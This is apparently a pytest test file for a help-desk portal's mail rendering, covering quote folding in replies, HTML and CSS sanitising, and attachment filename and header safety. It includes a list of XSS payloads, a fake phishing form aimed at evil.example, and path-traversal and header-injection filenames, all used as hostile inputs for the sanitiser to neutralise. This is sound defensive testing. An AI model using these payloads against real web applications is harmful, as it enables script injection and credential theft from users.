"""Portal rendering: quote folding, HTML sanitising, attachment names (MAIL_RULES 55, 59–61, 68–70)."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import unquote, urlsplit

import pytest

from portal.render import (
    clean_html,
    content_disposition,
    download_filename,
    html_document,
    safe_css,
    is_inline_image,
    split_quoted,
)

# --- split_quoted -------------------------------------------------------------

GMAIL = """\
Thanks, that fixed it!

On Tue, Mar 3, 2026 at 10:15 AM Kari Nordmann <kari@example.org>
wrote:

> Please restart the printer.
>
> Kari
"""

GMAIL_NB = """\
Takk, nå virker det!

tir. 3. mar. 2026 kl. 10:15 skrev Kari Nordmann <kari@example.org>:

> Start skriveren på nytt.
"""

NB_DEN = """\
Takk for svaret.

Den tir. 3. mar. 2026 kl. 10:15 skrev Kari <kari@example.org>:
> Har du prøvd å starte den på nytt?
"""

OUTLOOK_NB = """\
Hei,

det hjalp ikke.

Hilsen Ola

________________________________
Fra: Kari Nordmann <kari@example.org>
Sendt: tirsdag 3. mars 2026 10:15
Til: Ola Nordmann <ola@example.net>
Emne: SV: [SD#12] Skriveren

Har du prøvd å starte den på nytt?
"""

OUTLOOK_EN = """\
It still does not print.

From: Kari Nordmann <kari@example.org>
Sent: Tuesday, March 3, 2026 10:15 AM
To: Ola Nordmann <ola@example.net>
Subject: RE: [SD#12] Printer

Have you tried turning it off and on again?
"""

OUTLOOK_ORIGINAL = """\
See the log below.

-----Original Message-----
From: Kari Nordmann [mailto:kari@example.org]
Sent: Tuesday, March 3, 2026 10:15 AM
To: Ola Nordmann
Subject: Printer

Which model is it?
"""

OUTLOOK_OPPRINNELIG = """\
Modellen er HP 4250.

-----Opprinnelig melding-----
Fra: Kari Nordmann [mailto:kari@example.org]
Sendt: 3. mars 2026 10:15
Til: Ola Nordmann
Emne: Skriver

Hvilken modell er det?
"""

# No Fra:/Sendt: block under the separator: the library finds nothing here.
OPPRINNELIG_ONLY = """\
Modellen er HP 4250.

-----Opprinnelig melding-----
Hvilken modell er det?
"""

APPLE_MAIL = """\
Works now, thanks.

> On 3 Mar 2026, at 10:15, Kari Nordmann <kari@example.org> wrote:
>
> Try the other cable.
"""

APPLE_MAIL_NB = """\
Virker nå.

> 3. mar. 2026 kl. 10:15 skrev Kari Nordmann <kari@example.org>:
>
> Prøv den andre kabelen.
"""

THUNDERBIRD = """\
Attached is the screenshot.

On 03/03/2026 10:15, Kari Nordmann wrote:
> Could you send a screenshot?
"""

THUNDERBIRD_NB = """\
Skjermbildet er vedlagt.

Den 03.03.2026 10:15, skrev Kari Nordmann:
> Kan du sende et skjermbilde?
"""

IPHONE = """\
Yes, tomorrow works.

Sent from my iPhone

> On 3 Mar 2026, at 10:15, Kari <kari@example.org> wrote:
>
> Can we come tomorrow?
"""

IPHONE_NB = """\
Ja, i morgen passer.

Sendt fra min iPhone

> 3. mar. 2026 kl. 10:15 skrev Kari <kari@example.org>:
>
> Kan vi komme i morgen?
"""

PLAIN_QUOTE = """\
Agreed, go ahead.

> Shall we replace the toner?
> It is nearly empty.
"""

# Gmail wraps a long Norwegian attribution inside the address; the library's
# Danish pattern wants "skrev … :" on one line.
GMAIL_NB_WRAPPED = """\
Takk!

tir. 3. mar. 2026 kl. 10:15 skrev Kari Nordmann Solberg-Haugen <
kari.solberg-haugen@example.org>:

> Prøv igjen nå.
"""

TOP_POST_SIGNATURE = """\
The invoice number is 4711.

--
Ola Nordmann
ACME AS | +47 22 22 22 22

On Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:
> Which invoice is it about?
"""

FORWARD_WITH_NOTE = """\
Please look at the mail below.

---------- Forwarded message ---------
From: Billing <billing@example.com>
Date: Tue, Mar 3, 2026 at 10:15 AM
Subject: Invoice 4711
To: <ola@example.net>

Your invoice is attached.
"""

NO_QUOTE = """\
Hello,

my printer on floor 2 prints only blank pages since Monday.

Regards,
Ola
"""

BOTTOM_POST = """\
On Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:
> Which floor is the printer on?

Floor 2, next to the kitchen.
"""

BOTTOM_POST_NO_HEADER = """\
> Which floor is the printer on?

Floor 2.
"""

INTERLEAVED = """\
On Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:
> Which floor?
Floor 2.
> Which model?
HP 4250.
"""

ALL_QUOTED = """\
> Which floor?
> Which model?
"""

FORWARD_ONLY = """\
---------- Forwarded message ---------
From: Billing <billing@example.com>
Date: Tue, Mar 3, 2026 at 10:15 AM
Subject: Invoice 4711
To: <ola@example.net>

Your invoice is attached.
"""

GERMAN_OUTLOOK = """\
Danke!

Von: Kari Nordmann <kari@example.org>
Gesendet: Dienstag, 3. März 2026 10:15
An: Ola Nordmann
Betreff: Drucker

Bitte neu starten.
"""


def squeeze(text: str) -> str:
    """Text without any whitespace, to compare content across a split."""
    return re.sub(r"\s+", "", text)


def assert_nothing_lost(text: str, new: str, quoted: str) -> None:
    """new + quoted (or quoted + new, for a bottom-post) hold the whole input."""
    assert squeeze(new + quoted) == squeeze(text) or squeeze(quoted + new) == squeeze(text)


@pytest.mark.parametrize("text, new, quote_starts", [
    (GMAIL, "Thanks, that fixed it!", "On Tue, Mar 3, 2026"),
    (GMAIL_NB, "Takk, nå virker det!", "tir. 3. mar. 2026 kl. 10:15 skrev"),
    (NB_DEN, "Takk for svaret.", "Den tir. 3. mar. 2026 kl. 10:15 skrev Kari"),
    (OUTLOOK_NB, "Hei,\n\ndet hjalp ikke.\n\nHilsen Ola", "________________________________\nFra:"),
    (OUTLOOK_EN, "It still does not print.", "From: Kari Nordmann"),
    (OUTLOOK_ORIGINAL, "See the log below.", "-----Original Message-----"),
    (OUTLOOK_OPPRINNELIG, "Modellen er HP 4250.", "-----Opprinnelig melding-----\nFra:"),
    (OPPRINNELIG_ONLY, "Modellen er HP 4250.", "-----Opprinnelig melding-----"),
    (APPLE_MAIL, "Works now, thanks.", "> On 3 Mar 2026"),
    (APPLE_MAIL_NB, "Virker nå.", "> 3. mar. 2026 kl. 10:15 skrev"),
    (THUNDERBIRD, "Attached is the screenshot.", "On 03/03/2026 10:15, Kari Nordmann wrote:"),
    (THUNDERBIRD_NB, "Skjermbildet er vedlagt.", "Den 03.03.2026 10:15, skrev"),
    (IPHONE, "Yes, tomorrow works.\n\nSent from my iPhone", "> On 3 Mar 2026"),
    (IPHONE_NB, "Ja, i morgen passer.\n\nSendt fra min iPhone", "> 3. mar. 2026"),
    (PLAIN_QUOTE, "Agreed, go ahead.", "> Shall we replace the toner?"),
    (GMAIL_NB_WRAPPED, "Takk!", "tir. 3. mar. 2026 kl. 10:15 skrev Kari Nordmann Solberg-Haugen <\n"),
    (TOP_POST_SIGNATURE, "The invoice number is 4711.\n\n--\nOla Nordmann\nACME AS | +47 22 22 22 22",
     "On Tue, Mar 3, 2026"),
    (FORWARD_WITH_NOTE, "Please look at the mail below.", "---------- Forwarded message"),
], ids=["gmail", "gmail-nb", "nb-den", "outlook-nb", "outlook-en", "outlook-original-message",
        "outlook-opprinnelig-melding", "opprinnelig-melding-alone", "apple-mail", "apple-mail-nb",
        "thunderbird", "thunderbird-nb", "iphone", "iphone-nb", "plain-quote", "gmail-nb-wrapped",
        "top-post-signature", "forward-with-note"])
def test_top_post_is_split_at_the_quote(text, new, quote_starts):
    got_new, got_quoted = split_quoted(text)
    assert got_new == new
    assert got_quoted.startswith(quote_starts)
    assert_nothing_lost(text, got_new, got_quoted)


def test_quoted_part_is_the_original_text_from_the_cut():
    """The history is a slice of the input: indentation and line ends are kept."""
    text = "  indented answer\n\tsecond line\n\nOn Mon, Kari wrote:\n>    code block\n>\tx\n"
    new, quoted = split_quoted(text)
    assert new == "  indented answer\n\tsecond line"
    assert quoted == "On Mon, Kari wrote:\n>    code block\n>\tx\n"
    assert text.endswith(quoted)


def test_crlf_text_is_split_without_changing_line_ends():
    text = GMAIL.replace("\n", "\r\n")
    new, quoted = split_quoted(text)
    assert new == "Thanks, that fixed it!"
    assert quoted == GMAIL[GMAIL.index("On Tue"):].replace("\n", "\r\n")
    assert split_quoted(BOTTOM_POST.replace("\n", "\r\n")) == (
        "Floor 2, next to the kitchen.",
        "On Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:\r\n> Which floor is the printer on?")


@pytest.mark.parametrize("text", [NO_QUOTE, INTERLEAVED, ALL_QUOTED, FORWARD_ONLY, "", "   \n\n"],
                         ids=["no-quote", "interleaved", "all-quoted", "forward-only", "empty", "blank"])
def test_no_split_returns_the_text_unchanged(text):
    """No quote, answers between quotes, or nothing left above the quote: show it all (MAIL_RULES 59)."""
    assert split_quoted(text) == (text, "")


@pytest.mark.parametrize("text, new, quoted", [
    (BOTTOM_POST, "Floor 2, next to the kitchen.",
     "On Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:\n> Which floor is the printer on?"),
    (BOTTOM_POST_NO_HEADER, "Floor 2.", "> Which floor is the printer on?"),
], ids=["with-header", "without-header"])
def test_bottom_post_shows_the_answer_and_folds_the_quote_above_it(text, new, quoted):
    assert split_quoted(text) == (new, quoted)
    assert_nothing_lost(text, new, quoted)


def test_languages_choose_the_header_patterns():
    """German Outlook headers are folded only when German is asked for (MAIL_RULES 60)."""
    assert split_quoted(GERMAN_OUTLOOK) == (GERMAN_OUTLOOK, "")
    new, quoted = split_quoted(GERMAN_OUTLOOK, languages=("de",))
    assert new == "Danke!"
    assert quoted.startswith("Von: Kari Nordmann")


def test_unknown_languages_fall_back_to_english():
    new, _ = split_quoted(GMAIL, languages=("xx", "NB "))
    assert new == "Thanks, that fixed it!"
    new, _ = split_quoted(NB_DEN, languages=("xx", "NB "))
    assert new == "Takk for svaret."


def test_own_text_after_a_long_preamble_still_splits_the_quote():
    answer = "\n".join(f"Line {n} of a long answer." for n in range(2000))
    text = answer + "\n\nOn Tue, Mar 3, 2026 at 10:15 AM Kari <kari@example.org> wrote:\n> Hi\n"
    new, quoted = split_quoted(text)
    assert new == answer
    assert quoted.startswith("On Tue")


def test_near_miss_headers_finish_quickly():
    """1 MB of lines the "On … wrote:" pattern backtracks on (MAIL_RULES 61, talon #168)."""
    text = ("On " + "x " * 5000 + "\n") * 100
    start = time.perf_counter()
    new, quoted = split_quoted(text)
    assert time.perf_counter() - start < 3
    assert (new, quoted) == (text, "")


# --- clean_html ---------------------------------------------------------------

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "col", "colgroup", "dd", "del",
    "div", "dl", "dt", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins",
    "kbd", "li", "ol", "p", "pre", "q", "s", "small", "span", "strike", "strong", "sub",
    "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul",
}
CID_URLS = {"logo@example.org": "/case/12/attachment/7", "chart@example.org": "/case/12/attachment/8"}


def cid_url(content_id: str) -> str | None:
    """The portal's lookup: a URL for a known Content-ID, else None."""
    return CID_URLS.get(content_id)


class Elements(HTMLParser):
    """Every start tag of a document, with its attributes."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_inert(out: str) -> None:
    """Only allowed tags; no handler or frame attributes; CSS that fetches nothing; links and images only where safe."""
    for tag, attrs in Elements(out).found:
        assert tag in ALLOWED_TAGS | {"style"}, (tag, out)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, out)
            assert name not in ("srcset", "srcdoc", "background", "action", "formaction",
                                "xlink:href", "data"), (name, out)
            if name == "href":
                assert urlsplit(value).scheme in ("http", "https", "mailto"), out
            if name == "src":
                assert value in CID_URLS.values(), out
    lowered = out.lower()
    for needle in ("<script", "<svg", "<math", "<iframe", "<object", "<embed", "<base",
                   "<meta", "<link", "<form", "<input", "<button", "<template", "javascript:",
                   "vbscript:", "data:", "expression(", "url(", "@import", "\\"):
        assert needle not in lowered, (needle, out)


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<body onload=alert(1)>hello",
    "<p onclick=alert(1) onmouseover='alert(2)'>hi</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" \x01JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://t.example/p)}</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/phish"><input name=pw type=password><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<img src="java\x00script:alert(1)">',
    '<a href="java\x00script:alert(1)">x</a>',
    '<img """><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<table background="javascript:alert(1)"><td background="https://t.example/p.gif">x</td></table>',
    "<input autofocus onfocus=alert(1)>",
    '<isindex action="javascript:alert(1)" type=image>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red" class="x" id="y">ok</a>',
    '<div><div><div><span><b><i><u><a href="javascript:alert(1)">deep</a></u></i></b></span></div></div></div>',
    '<p>a</p><script>alert(1)</script><p>b</p><script src=//evil.example/x.js></script>',
    '<img srcset="https://t.example/a.gif 1x" src="cid:logo@example.org">',
    '<a href="cid:logo@example.org">x</a>',
    "<xmp><script>alert(1)</script></xmp>",
    '<plaintext><script>alert(1)</script>',
]


@pytest.mark.parametrize("payload", XSS)
def test_nothing_executable_survives(payload):
    assert_inert(clean_html(payload, cid_url))


@pytest.mark.parametrize("payload", [
    "<script>alert(1)</script>", "<svg onload=alert(1)><text>svgtext</text></svg>",
    "<math><mi>mathtext</mi></math>", "<iframe>frametext</iframe>",
    "<form><p>formtext</p><input value=v></form>", "<object>objtext</object>",
    "<noscript>nstext</noscript>", "<template>tpltext</template>",
])
def test_dangerous_containers_go_with_their_content(payload):
    out = clean_html("<p>before</p>" + payload + "<p>after</p>", cid_url)
    assert out == "<p>before</p><p>after</p>"


def test_formatting_survives():
    html = ('<h2 align="center">Hi</h2><p>Some <b>bold</b>, <i>it</i>, <u>u</u>, <strong>s</strong>, '
            '<em>e</em>.</p><ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
            '<table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
            '<blockquote>quoted</blockquote><pre><code>x = 1</code></pre><hr><div><span>s</span></div>')
    assert clean_html(html, cid_url) == html


def test_fonts_are_dropped_but_their_text_kept_and_styles_kept_without_what_fetches():
    """The frame's own policy lets the mail's styles apply; what could fetch or run is taken out first."""
    html = ('<font color="red" face="Comic Sans MS">red</font>'
            '<p style="color:blue; background:url(https://t.example/p.gif)" class="x" id="y">blue</p>')
    assert clean_html(html, cid_url) == 'red<p style="color:blue" class="x" id="y">blue</p>'
    sheet = ('<style>@import "https://evil.example/x.css"; .x{color:blue;background:url(https://t.example/p)}'
             '@font-face{font-family:F;src:url(https://t.example/f.woff)} @media (max-width:600px){.x{color:red}}'
             '.y{width:expression(alert(1))} .z{color:\\75 rl(x)} p{font-weight:bold}</style><p>x</p>')
    assert clean_html(sheet, cid_url) == "<style>.x{color:blue}\n.y{}\n.z{}\np{font-weight:bold}</style><p>x</p>"


@pytest.mark.parametrize("css, expected", [
    ("color: red; background-image: url(x)", "color: red"),
    ("color: red; behavior: url(x.htc)", "color: red"),
    ("-moz-binding: url(x.xml#x); color: red", "color: red"),
    ("color: \\72 ed", ""),
    ("font: 12px <script>", "font: 12px script>"),
])
def test_safe_css_keeps_only_what_changes_the_look(css, expected):
    assert safe_css(css) == expected


def test_known_cid_image_gets_the_portal_url():
    calls = []

    def lookup(content_id):
        calls.append(content_id)
        return cid_url(content_id)

    out = clean_html('<img src="cid:logo@example.org" alt="ACME" width="120">', lookup)
    assert out == '<img src="/case/12/attachment/7" alt="ACME" width="120">'
    assert calls == ["logo@example.org"]


@pytest.mark.parametrize("src", ["CID:logo@example.org", "cid:logo%40example.org", "cid:<logo@example.org>",
                                 " cid:logo@example.org "])
def test_cid_spellings_are_decoded(src):
    """RFC 2392: cid URLs are %-encoded Content-IDs without angle brackets."""
    assert clean_html(f'<img src="{src}">', cid_url) == '<img src="/case/12/attachment/7">'


def test_unknown_cid_loses_its_source_and_keeps_its_alt_text():
    assert clean_html('<img src="cid:nope@example.org" alt="Chart">', cid_url) == '<img alt="Chart">'


def test_absolute_portal_url_from_cid_url_is_kept():
    out = clean_html('<img src="cid:a">', lambda _: "https://desk.example.com/a/1")
    assert out == '<img src="https://desk.example.com/a/1">'


@pytest.mark.parametrize("target", ["javascript:alert(1)", "data:image/png;base64,AAAA",
                                    "//evil.example/x", "/\\evil.example/x", "relative/path",
                                    "http://[bad", "", None])
def test_cid_url_results_are_checked_too(target):
    """nh3 does not re-check what the attribute filter returns."""
    assert clean_html('<img src="cid:a" alt="x">', lambda _: target) == '<img alt="x">'


@pytest.mark.parametrize("src", [
    "https://tracker.example/p.gif?u=ola", "http://tracker.example/p.gif", "//tracker.example/p.gif",
    "data:image/png;base64,iVBORw0KGgo=", "/local.png", "p.gif", "ftp://x.example/p.gif",
])
def test_other_image_sources_are_removed(src):
    """Remote images are tracking pixels; the alt text stays (MAIL_RULES 68)."""
    assert clean_html(f'<img src="{src}" alt="Logo">', cid_url) == '<img alt="Logo">'


@pytest.mark.parametrize("href", ["https://example.com/a?b=1&c=2", "http://example.com/", "mailto:kari@example.org"])
def test_links_open_outside_without_referrer(href):
    out = clean_html(f'<a href="{href}" target="_self" rel="opener">x</a>', cid_url)
    ((_, attrs),) = Elements(out).found
    assert attrs == {"href": href, "target": "_blank", "rel": "noopener noreferrer nofollow"}


@pytest.mark.parametrize("href", ["/logout", "#top", "?x=1", "//evil.example/", "ftp://x.example/",
                                  "tel:+4722222222", "cid:logo@example.org"])
def test_relative_and_other_links_lose_their_target(href):
    out = clean_html(f'<a href="{href}">x</a>', cid_url)
    assert "href" not in Elements(out).found[0][1]


def test_empty_html():
    assert clean_html("", cid_url) == ""


# --- html_document -------------------------------------------------------------

def test_document_wraps_the_fragment_with_a_strict_policy():
    doc = html_document("<p>Hei</p>", "nb")
    assert doc.startswith("<!DOCTYPE html>\n")
    assert "<body>\n<p>Hei</p>\n</body>" in doc
    elements = Elements(doc).found
    assert ("html", {"lang": "nb"}) in elements
    assert ("meta", {"charset": "utf-8"}) in elements
    assert ("base", {"target": "_blank"}) in elements
    csp = next(attrs["content"] for tag, attrs in elements
               if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy")
    assert csp.startswith("default-src 'none'; img-src 'self'; style-src 'unsafe-inline'")
    assert "script-src" not in csp
    assert "<style>" in doc


@pytest.mark.parametrize("lang, expected", [("en", "en"), ("nb-NO", "nb-NO"), ("", "und"),
                                            ('en" onload="alert(1)', "und"), ("x" * 20, "und")])
def test_document_language_is_a_language_tag(lang, expected):
    assert ("html", {"lang": expected}) in Elements(html_document("", lang)).found


# --- download_filename / content_disposition ----------------------------------

@pytest.mark.parametrize("name, expected", [
    ("report.pdf", "report.pdf"),
    ("../../etc/passwd", "passwd"),
    ("C:\\x\\y.exe", "y.exe"),
    ("\\\\server\\share\\evil.bat", "evil.bat"),
    ("dir/sub/", "sub"),
    ("C:evil.exe", "C_evil.exe"),
    ("CON.txt", "_CON.txt"),
    ("nul", "_nul"),
    ("lpt1.tar.gz", "_lpt1.tar.gz"),
    ("Com9 .txt", "_Com9 .txt"),
    ("CONSOLE.txt", "CONSOLE.txt"),
    (".htaccess", "htaccess"),
    ("...", "attachment"),
    ("evil.exe. . ", "evil.exe"),
    ("a\x00b\x07c\x1b[31m.txt", "abc[31m.txt"),
    ("line\r\nbreak.txt", "line break.txt"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
    ("zero\u200bwidth.txt", "zerowidth.txt"),
    ("a\x85b\x9f.txt", "ab.txt"),
    ('say "hi" <now>?.txt', "say _hi_ _now__.txt"),
    ("Årsrapport ø.pdf", "Årsrapport ø.pdf"),
    ("", "attachment"),
    ("   ", "attachment"),
])
def test_download_filename(name, expected):
    assert download_filename(name) == expected


def test_long_names_are_cut_keeping_the_extension():
    name = download_filename("x" * 300 + ".pdf")
    assert name == "x" * 196 + ".pdf"
    name = download_filename("æ" * 300 + ".docx")
    assert name.endswith(".docx") and len(name.encode("utf-8")) <= 200
    assert name == "æ" * 97 + ".docx"  # cut on a character, never inside one
    name = download_filename("y" * 300)
    assert name == "y" * 200
    name = download_filename("z" * 300 + "." + "e" * 40)  # not an extension: cut at the end
    assert name == "z" * 200


@pytest.mark.parametrize("name, inline, expected", [
    ("report.pdf", False, 'attachment; filename="report.pdf"'),
    ("photo.png", True, 'inline; filename="photo.png"'),
    ("Årsrapport ø.pdf", False,
     "attachment; filename=\"Arsrapport o.pdf\"; filename*=UTF-8''%C3%85rsrapport%20%C3%B8.pdf"),
    ("Blåbærsyltetøy.txt", False,
     "attachment; filename=\"Blabaersyltetoy.txt\"; filename*=UTF-8''Bl%C3%A5b%C3%A6rsyltet%C3%B8y.txt"),
    ("日本.pdf", False, "attachment; filename=\"__.pdf\"; filename*=UTF-8''%E6%97%A5%E6%9C%AC.pdf"),
    ('a"b.txt', False, 'attachment; filename="a_b.txt"'),
    ("100% done.txt", False, "attachment; filename=\"100_ done.txt\"; filename*=UTF-8''100%25%20done.txt"),
    ("../../etc/passwd", False, 'attachment; filename="passwd"'),
    ("", False, 'attachment; filename="attachment"'),
])
def test_content_disposition(name, inline, expected):
    assert content_disposition(name, inline) == expected


@pytest.mark.parametrize("name", [
    'a"; filename="evil.exe', "x\r\nSet-Cookie: a=b.txt", "back\\slash\".txt", "ø\"\\\r\n\x00;,.pdf",
    "x" * 300 + "ø.pdf", "CON.txt", "\u202eexe.pdf",
])
def test_content_disposition_is_one_safe_header_value(name):
    """RFC 6266 §4.1: a quoted-string without '"' or '\\'; RFC 8187 attr-chars in filename*."""
    value = content_disposition(name)
    assert "\r" not in value and "\n" not in value and "\x00" not in value
    match = re.fullmatch(r"attachment; filename=\"([\x20-\x21\x23-\x5b\x5d-\x7e]*)\""
                         r"(?:; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+))?", value)
    assert match, value
    assert "%" not in match.group(1)
    if match.group(2):
        assert unquote(match.group(2), errors="strict") == download_filename(name)


@pytest.mark.parametrize("content_type, inline", [
    ("image/png", True), ("image/jpeg", True), ("image/gif", True), ("image/webp", True),
    ("IMAGE/PNG; name=logo.png", True), (" image/jpeg ", True),
    ("image/svg+xml", False), ("image/svg", False), ("text/html", False), ("image/bmp", False),
    ("image/tiff", False), ("application/octet-stream", False), ("image/png+xml", False),
    ("", False),
])
def test_is_inline_image(content_type, inline):
    assert is_inline_image(content_type) is inline
